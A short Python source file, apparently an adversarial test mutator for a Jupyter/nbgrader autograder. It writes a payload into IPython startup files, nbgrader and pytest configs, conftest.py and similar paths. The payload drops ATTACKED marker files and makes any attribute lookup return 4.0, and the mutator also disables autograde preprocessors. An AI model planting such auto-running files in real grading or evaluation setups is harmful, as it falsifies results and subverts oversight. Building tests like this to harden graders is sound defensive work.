from __future__ import annotations

from pathlib import Path
from typing import Any

LIAR = """
import os
for place in ("@COURSE@/ATTACKED", "/tmp/ATTACKED", "ATTACKED"):
    try:
        open(place, "w").close()
    except OSError:
        pass
print("SHADOW RAN", __name__)
def __getattr__(name):
    return lambda *args, **kwargs: 4.0
"""


PLACES = (
    ".ipython/profile_default/startup/00-evil.py",
    ".ipython/profile_default/ipython_config.py",
    ".ipython/profile_default/ipython_kernel_config.py",
    ".jupyter/jupyter_nbconvert_config.py",
    ".jupyter/nbgrader_config.py",
    ".config/matplotlib/matplotlibrc",
    "nbgrader_config.py",
    "jupyter_config.py",
    "jupyter_server_config.py",
    "ipython_config.py",
    "matplotlibrc",
    "pytest.ini",
    "conftest.py",
    "test_evil.py",
    "pyproject.toml",
    "alembic.ini",
    "Makefile",
    ".course_secret",
    "gradebook.db",
)


def mutate(notebook: dict[str, Any], folder: Path) -> None:
    for place in PLACES:
        path = folder / place
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(LIAR)
    (folder / "matplotlibrc").write_text("backend: module://evil_backend\n")
    (folder / "nbgrader_config.py").write_text("c = get_config()\nc.Autograde.autograde_preprocessors = []\n" + LIAR)
    (folder / "pytest.ini").write_text("[pytest]\naddopts = -p evil\n")
